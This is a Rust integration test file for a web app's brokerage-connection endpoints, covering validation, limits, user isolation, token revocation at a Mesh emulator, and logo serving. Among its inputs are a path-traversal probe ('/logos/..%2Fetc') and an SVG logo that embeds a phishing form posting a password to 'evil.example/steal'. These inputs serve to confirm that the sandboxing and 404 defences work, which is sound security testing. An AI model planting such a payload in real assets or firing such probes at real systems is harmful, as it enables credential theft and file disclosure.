//! save_connection, list_connections and disconnect over real HTTP: validation, limits,
//! isolation between users, and revocation at Mesh (the emulator).
#![cfg(feature = "ssr")]

mod common;

use app::accounts::ConnectionSummary;
use app::error::ErrorKind;
use base64::Engine;
use common::{SECRET, TestApp, TestUser, app_error, payload_from_emulated_link};
use serde_json::{Value, json};

fn access_payload(accounts: Vec<Value>) -> Value {
    json!({ "payload": { "accessToken": {
        "accountTokens": accounts,
        "brokerBrandInfo": { "brokerLogo": "iVBORw0KGgo=" },
        "expiresInSeconds": 3600,
        "brokerType": "robinhood",
        "brokerName": "Robinhood",
    }}})
}

fn account(id: &str, access_token: &str) -> Value {
    json!({
        "account": { "accountId": id, "accountName": format!("Account {id}"), "cash": 12.5 },
        "accessToken": access_token,
        "refreshToken": "refresh-token-value",
    })
}

async fn save(app: &TestApp, user: &TestUser, body: Value) -> reqwest::Response {
    app.call_json(user, "save_connection", body.to_string())
        .await
}

/// Saves one Robinhood account with `access_token` and returns its summaries.
async fn save_one(app: &TestApp, user: &TestUser, access_token: &str) -> Vec<ConnectionSummary> {
    let response = save(app, user, access_payload(vec![account("a", access_token)])).await;
    assert_eq!(response.status(), 200);
    response.json().await.unwrap()
}

async fn list(app: &TestApp, user: &TestUser) -> Vec<ConnectionSummary> {
    let response = app.call_form(user, "list_connections", &[]).await;
    assert_eq!(response.status(), 200);
    response.json().await.unwrap()
}

#[tokio::test]
async fn save_returns_summaries_without_tokens_and_list_shows_them() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let response = save(
        &app,
        &user,
        access_payload(vec![account("a1", "secret-access-1")]),
    )
    .await;
    assert_eq!(response.status(), 200);
    let body = response.text().await.unwrap();
    assert!(
        !body.contains("secret-access-1") && !body.contains("refresh-token-value"),
        "{body}"
    );
    let saved: Vec<ConnectionSummary> = serde_json::from_str(&body).unwrap();
    assert_eq!(saved.len(), 1);
    assert_eq!(saved[0].account_name.as_deref(), Some("Account a1"));
    assert_eq!(saved[0].cash.as_deref(), Some("$12.50"));
    assert!(
        saved[0]
            .expires
            .as_deref()
            .is_some_and(|at| at.ends_with(" UTC"))
    );
    assert_eq!(list(&app, &user).await, saved);
}

#[tokio::test]
async fn every_validation_error_is_a_400_sentence_naming_the_field() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let cases = [
        (
            access_payload(vec![account("a", "")]),
            "accountTokens[0].accessToken",
        ),
        (
            access_payload(vec![account("a", &"x".repeat(8 * 1024 + 1))]),
            "accountTokens[0].accessToken",
        ),
        (
            access_payload(vec![account(&"i".repeat(257), "t")]),
            "accountTokens[0].account.accountId",
        ),
        (access_payload(vec![]), "accountTokens must hold 1 to 50"),
        (
            access_payload((0..51).map(|i| account(&i.to_string(), "t")).collect()),
            "not 51",
        ),
        (
            json!({ "payload": { "delayedAuth": { "refreshToken": "", "brokerType": "coinbase", "brokerName": "Coinbase", "brokerBrandInfo": {"brokerLogo": ""} } } }),
            "refreshToken",
        ),
        (
            json!({ "payload": { "accessToken": { "accountTokens": "nope" } } }),
            "could not be read",
        ),
    ];
    for (body, expected) in cases {
        let response = save(&app, &user, body).await;
        assert_eq!(response.status(), 400, "{expected}");
        let error = app_error(response).await;
        assert_eq!(error.kind, ErrorKind::InvalidInput);
        assert!(
            error.message.contains(expected),
            "{} should mention {expected}",
            error.message
        );
        assert!(
            error.message.ends_with('.') || error.message.contains(':'),
            "{}",
            error.message
        );
    }
    let response = app
        .call_json(&user, "save_connection", "{not json".into())
        .await;
    assert_eq!(response.status(), 400);
    assert!(list(&app, &user).await.is_empty(), "nothing was stored");
}

#[tokio::test]
async fn an_oversized_body_is_refused_with_413() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let mut body = access_payload(vec![account("a", "t")]);
    body["payload"]["accessToken"]["brokerBrandInfo"]["brokerLogo"] =
        json!("A".repeat(1024 * 1024 + 10));
    let response = save(&app, &user, body).await;
    assert_eq!(response.status(), 413);
    let error = app_error(response).await;
    assert_eq!(error.kind, ErrorKind::TooLarge);
    assert_eq!(
        error.message,
        "The request is larger than the 1024 KiB the server accepts."
    );
    assert!(list(&app, &user).await.is_empty());
}

#[tokio::test]
async fn a_large_logo_is_dropped_but_the_tokens_are_kept() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let mut body = access_payload(vec![account("a", "t")]);
    body["payload"]["accessToken"]["brokerBrandInfo"]["brokerLogo"] = json!("A".repeat(600 * 1024));
    let response = save(&app, &user, body).await;
    assert_eq!(response.status(), 200);
    let listed = list(&app, &user).await;
    assert_eq!(listed.len(), 1);
    assert!(listed[0].logo_url.is_none());
}

#[tokio::test]
async fn another_user_cannot_list_or_disconnect_a_connection() {
    let app = TestApp::start(SECRET).await;
    let owner = app.new_user().await;
    let stranger = app.new_user().await;
    let saved = save_one(&app, &owner, "t").await;
    assert!(list(&app, &stranger).await.is_empty());
    let id = saved[0].id.clone();
    assert!(uuid_like(&id), "ids are random UUIDs: {id}");
    let response = app.call_form(&stranger, "disconnect", &[("id", &id)]).await;
    assert_eq!(response.status(), 404);
    assert_eq!(app_error(response).await.kind, ErrorKind::NotFound);
    assert_eq!(list(&app, &owner).await.len(), 1, "still there");
    let response = app
        .call_form(&owner, "disconnect", &[("id", "not-an-id")])
        .await;
    assert_eq!(response.status(), 400);
}

fn uuid_like(id: &str) -> bool {
    id.len() == 36 && id.chars().filter(|c| *c == '-').count() == 4
}

#[tokio::test]
async fn disconnect_revokes_at_mesh_then_forgets() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let payload = payload_from_emulated_link(&app, "robinhood").await;
    let access_token = payload["payload"]["accessToken"]["accountTokens"][0]["accessToken"]
        .as_str()
        .unwrap()
        .to_string();
    let saved: Vec<ConnectionSummary> = save(&app, &user, payload).await.json().await.unwrap();
    let response = app
        .call_form(&user, "disconnect", &[("id", &saved[0].id)])
        .await;
    assert_eq!(response.status(), 200);
    assert!(list(&app, &user).await.is_empty());
    // The emulator no longer accepts the token: it was revoked, not just forgotten.
    let revoked = app
        .http
        .delete(app.emulator.base_url().join("/api/v1/account").unwrap())
        .header("X-Client-Id", "app-test")
        .header("X-Client-Secret", SECRET)
        .json(&json!({"authToken": access_token, "type": "robinhood"}))
        .send()
        .await
        .unwrap();
    assert_eq!(revoked.status(), 400);
}

#[tokio::test]
async fn a_token_mesh_no_longer_knows_is_deleted_anyway() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let saved: Vec<ConnectionSummary> = save(
        &app,
        &user,
        access_payload(vec![account("a", "never-issued")]),
    )
    .await
    .json()
    .await
    .unwrap();
    let response = app
        .call_form(&user, "disconnect", &[("id", &saved[0].id)])
        .await;
    assert_eq!(response.status(), 200);
    assert!(list(&app, &user).await.is_empty());
}

#[tokio::test]
async fn when_mesh_fails_the_connection_is_kept_and_the_user_told() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let saved = save_one(&app, &user, "t").await;
    app.queue_fault(
        json!({"path": "/api/v1/account", "fault": "status", "status": 503, "times": 2}),
    )
    .await;
    let response = app
        .call_form(&user, "disconnect", &[("id", &saved[0].id)])
        .await;
    assert_eq!(response.status(), 502);
    let error = app_error(response).await;
    assert!(
        error.message.ends_with("The account is still connected."),
        "{}",
        error.message
    );
    assert_eq!(list(&app, &user).await.len(), 1);
}

#[tokio::test]
async fn when_mesh_refuses_our_keys_the_connection_is_kept() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let saved = save_one(&app, &user, "t").await;
    app.queue_fault(json!({"path": "/api/v1/account", "fault": "status", "status": 401}))
        .await;
    let response = app
        .call_form(&user, "disconnect", &[("id", &saved[0].id)])
        .await;
    assert_eq!(response.status(), 502);
    assert!(app_error(response).await.message.contains("API keys"));
    assert_eq!(list(&app, &user).await.len(), 1);
}

#[tokio::test]
async fn a_pending_connection_is_listed_and_deleted_locally() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let body = json!({ "payload": { "delayedAuth": {
        "refreshToken": "delayed", "brokerType": "coinbase", "brokerName": "Coinbase",
        "brokerBrandInfo": { "brokerLogo": "" }
    }}});
    let saved: Vec<ConnectionSummary> = save(&app, &user, body).await.json().await.unwrap();
    assert!(saved[0].pending);
    assert_eq!(list(&app, &user).await, saved);
    // Mesh is down, yet a pending connection goes: it was never connected there.
    app.queue_fault(
        json!({"path": "/api/v1/account", "fault": "status", "status": 503, "times": 5}),
    )
    .await;
    let response = app
        .call_form(&user, "disconnect", &[("id", &saved[0].id)])
        .await;
    assert_eq!(response.status(), 200);
    assert!(list(&app, &user).await.is_empty());
}

#[tokio::test]
async fn a_payload_without_branding_or_names_still_saves_the_tokens() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let body = json!({ "payload": { "accessToken": {
        "accountTokens": [{
            "account": { "accountId": "acc-plain", "accountName": null, "cash": "12.50" },
            "accessToken": "token-kept",
        }],
        "brokerType": "robinhood",
        "brokerName": "Robinhood",
        "fieldFromANewerLink": { "any": "thing" },
    }}});
    let response = save(&app, &user, body).await;
    let status = response.status();
    assert_eq!(status, 200, "{}", response.text().await.unwrap());
    let listed = list(&app, &user).await;
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].account_name.as_deref(), Some("acc-plain"));
    assert_eq!(listed[0].cash, None);
    assert!(listed[0].logo_url.is_none());
}

#[tokio::test]
async fn a_user_holds_at_most_100_connections_and_reconnecting_still_works_at_the_cap() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    for batch in 0..2 {
        let accounts = (0..50)
            .map(|i| account(&format!("{batch}-{i}"), "at"))
            .collect();
        assert_eq!(
            save(&app, &user, access_payload(accounts)).await.status(),
            200
        );
    }
    let refused = save(&app, &user, access_payload(vec![account("one-more", "at")])).await;
    assert_eq!(refused.status(), 400);
    assert_eq!(
        app_error(refused).await.message,
        "You have 100 connected accounts; the limit is 100. Disconnect some before connecting more."
    );
    let reconnected = save(&app, &user, access_payload(vec![account("0-7", "new-at")])).await;
    assert_eq!(reconnected.status(), 200);
}

#[tokio::test]
async fn parallel_saves_into_one_session_stop_at_the_cap() {
    let app = TestApp::start_capped(SECRET, 3).await;
    let user = app.new_user().await;
    let saves = (0..12).map(|i| {
        let body = access_payload(vec![account(&format!("parallel-{i}"), "at")]);
        save(&app, &user, body)
    });
    let answers = futures_util::future::join_all(saves).await;
    let stored = answers.iter().filter(|a| a.status() == 200).count();
    assert_eq!(stored, 3, "saves answered 200");
    for refused in answers.into_iter().filter(|a| a.status() != 200) {
        assert_eq!(refused.status(), 400);
        let sentence = app_error(refused).await.message;
        assert!(
            sentence.ends_with("the limit is 3. Disconnect some before connecting more."),
            "{sentence}"
        );
    }
    assert_eq!(list(&app, &user).await.len(), 3);
}

#[tokio::test]
async fn delayed_authentications_count_toward_the_cap() {
    let app = TestApp::start_capped(SECRET, 3).await;
    let user = app.new_user().await;
    for broker in ["coinbase", "kraken", "binance", "gemini", "okx", "bitstamp"] {
        let body = json!({ "payload": { "delayedAuth": {
            "refreshToken": "delayed", "brokerType": broker, "brokerName": broker,
            "brokerBrandInfo": { "brokerLogo": "" }
        }}});
        save(&app, &user, body).await;
    }
    assert_eq!(list(&app, &user).await.len(), 3);
}

#[tokio::test]
async fn the_logo_is_served_once_by_url_for_every_account_it_decorates() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let saved: Vec<ConnectionSummary> = save(
        &app,
        &user,
        access_payload(vec![account("a", "at-1"), account("b", "at-2")]),
    )
    .await
    .json()
    .await
    .unwrap();
    let url = saved[0].logo_url.clone().expect("a logo URL");
    assert_eq!(saved[1].logo_url.as_deref(), Some(url.as_str()));
    assert!(url.starts_with("/logos/"), "{url}");
    let logo = app
        .http
        .get(format!("http://{}{url}", app.addr))
        .send()
        .await
        .unwrap();
    assert_eq!(logo.status(), 200);
    assert_eq!(logo.headers()["content-type"], "image/png");
    assert_eq!(
        logo.headers()["cache-control"],
        "public, max-age=31536000, immutable"
    );
    let body = logo.bytes().await.unwrap();
    assert_eq!(
        &body[..],
        &base64::engine::general_purpose::STANDARD
            .decode("iVBORw0KGgo=")
            .unwrap()[..]
    );
    for missing in ["/logos/0000", "/logos/..%2Fetc", "/logos/a.b"] {
        let response = app
            .http
            .get(format!("http://{}{missing}", app.addr))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 404, "{missing}");
    }
}

/// An SVG logo holding a form opens as a sandboxed document: no script, no form submission,
/// an opaque origin.
#[tokio::test]
async fn an_svg_logo_is_served_sandboxed() {
    let app = TestApp::start(SECRET).await;
    let user = app.new_user().await;
    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="200" height="50"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/steal"><input name="password"/><button>Sign in</button></form></foreignObject></svg>"#;
    let mut body = access_payload(vec![account("svg", "at-svg")]);
    body["payload"]["accessToken"]["brokerBrandInfo"]["brokerLogo"] =
        base64::engine::general_purpose::STANDARD.encode(svg).into();
    let saved: Vec<ConnectionSummary> = save(&app, &user, body).await.json().await.unwrap();
    let url = saved[0].logo_url.clone().expect("a logo URL");
    let logo = app
        .http
        .get(format!("http://{}{url}", app.addr))
        .send()
        .await
        .unwrap();
    assert_eq!(logo.headers()["content-type"], "image/svg+xml");
    let policy = logo.headers()["content-security-policy"].to_str().unwrap();
    let directives: Vec<&str> = policy.split(';').map(str::trim).collect();
    assert!(directives.contains(&"sandbox"), "{policy}");
    assert!(directives.contains(&"form-action 'none'"), "{policy}");
}
